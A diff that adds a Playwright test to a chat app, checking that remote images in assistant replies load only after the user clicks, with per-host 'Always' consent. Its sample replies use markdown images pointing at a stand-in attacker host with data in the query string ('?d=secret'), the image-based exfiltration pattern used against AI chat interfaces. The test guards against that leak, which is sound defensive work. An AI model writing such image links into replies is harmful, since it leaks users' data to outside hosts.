@@ -79,3 +79,52 @@ test("a cited source shows as a chip naming its site, with the page's title on h
   await expect(chip).toHaveAttribute("target", "_blank");
   await expect(assistantMessages(page).last()).not.toContainText("citation:");
 });
+
+/** A 1×1 PNG, what the routed image host answers. */
+const PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
+  "base64",
+);
+
+test("a remote image in a reply loads only after Load image; Always shows its host's images at once", async ({
+  page,
+}) => {
+  // The image host is routed here, so what the page asks it for is counted (and nothing leaves the machine).
+  const fetched: string[] = [];
+  await page.route("http://images.attacker.test/**", (route) => {
+    fetched.push(route.request().url());
+    return route.fulfill({ status: 200, contentType: "image/png", body: PNG });
+  });
+  await configureEndpoint(page);
+  // The mock answers "You said: <the message>", so the reply holds the image as a model would write it.
+  await send(page, "![chart](http://images.attacker.test/chart.png?d=secret)");
+  const reply = assistantMessages(page).last();
+  const load = reply.getByRole("button", { name: "Load image from images.attacker.test" });
+  await expect(load).toBeVisible();
+  await expect(reply).toHaveAttribute("aria-busy", "false");
+  expect(await reply.locator("img").count()).toBe(0);
+  expect(fetched).toEqual([]);
+
+  await load.click();
+  const chart = reply.getByRole("img", { name: "chart" });
+  await expect(chart).toBeVisible();
+  await expect.poll(() => chart.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
+  expect(fetched).toEqual(["http://images.attacker.test/chart.png?d=secret"]);
+  await expect(load).toBeHidden();
+
+  // "Always" for the host: this image shows, and the next reply's image shows with no click, after a reload too.
+  await send(page, "![second](http://images.attacker.test/second.png)");
+  const second = assistantMessages(page).last();
+  await second.getByRole("button", { name: "Always show images from images.attacker.test" }).click();
+  await expect(second.getByRole("img", { name: "second" })).toBeVisible();
+  await send(page, "![third](http://images.attacker.test/third.png)");
+  await expect(assistantMessages(page).last().getByRole("img", { name: "third" })).toBeVisible();
+  await page.reload();
+  await expect(assistantMessages(page).last().getByRole("img", { name: "third" })).toBeVisible();
+  await expect(page.getByRole("button", { name: /Load image/ })).toHaveCount(0);
+  // Another host still waits for a click.
+  await send(page, "![other](http://other.attacker.test/x.png)");
+  await expect(
+    assistantMessages(page).last().getByRole("button", { name: "Load image from other.attacker.test" }),
+  ).toBeVisible();
+});
